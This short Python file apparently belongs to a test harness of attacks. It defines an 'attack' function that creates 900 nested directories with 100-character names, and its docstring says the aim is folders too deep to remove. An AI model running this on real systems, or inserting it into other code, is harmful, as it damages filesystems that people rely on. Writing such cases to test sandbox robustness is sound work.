"""Success: folders so deep that nobody can remove them."""

import os

from kit import tries


def attack(a):
    def dig():
        for _ in range(900):
            os.mkdir("d" * 100)
            os.chdir("d" * 100)
        return "deep"

    return tries(dig)
